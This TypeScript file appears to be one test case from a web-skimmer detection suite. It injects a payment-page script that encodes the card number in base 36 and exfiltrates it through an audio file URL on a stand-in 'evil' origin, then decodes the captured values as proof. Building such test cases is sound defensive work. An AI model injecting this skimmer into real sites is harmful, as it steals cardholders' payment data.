import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'media-address',
  why: 'A sound to be loaded; its address holds the number in base 36, cut in two parameters.',
  covers: ['hard: unusual channel', 'encoding: substitution'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var n = field('card_number'), a = new Audio();
    a.preload = 'auto';
    a.src = '${site.origins.evil}/ding.mp3?a=' + parseInt('1' + n.slice(0, 8), 10).toString(36) + '&b=' + parseInt('1' + n.slice(8), 10).toString(36);
    a.load();`),
    ),
  proof: holds((arrived) => {
    const [a, b] = [query(arrived, 'a'), query(arrived, 'b')].map((parts) =>
      parts.map((part) => parseInt(part, 36).toString().slice(1)),
    );
    return (a ?? []).map((part, i) => part + (b?.[i] ?? ''));
  }),
});
